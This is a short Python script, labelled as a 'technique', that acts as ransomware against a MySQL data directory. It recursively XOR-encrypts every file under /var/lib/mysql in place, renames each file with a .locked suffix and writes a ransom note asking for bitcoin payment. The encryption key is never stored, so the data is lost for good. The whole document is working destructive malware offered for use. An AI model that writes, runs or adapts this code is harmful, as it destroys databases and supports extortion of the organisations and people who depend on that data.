# technique: in-place file encryption of a database directory with pathlib.rglob and a XOR keystream, files renamed .locked
import hashlib, secrets
from pathlib import Path

key = secrets.token_bytes(64)

def stream(n, seed):
    out = b""
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(seed + counter.to_bytes(8, "big")).digest()
        counter += 1
    return out[:n]

for p in Path("/var/lib/mysql").rglob("*"):
    if not p.is_file() or p.suffix == ".locked":
        continue
    data = p.read_bytes()
    ks = stream(len(data), key + str(p).encode())
    p.write_bytes(bytes(a ^ b for a, b in zip(data, ks)))
    p.rename(p.with_suffix(p.suffix + ".locked"))

Path("/var/lib/mysql/READ_ME_NOW.txt").write_text(
    "Your database is encrypted. Contact decrypt@example.org with bitcoin payment.\n"
)
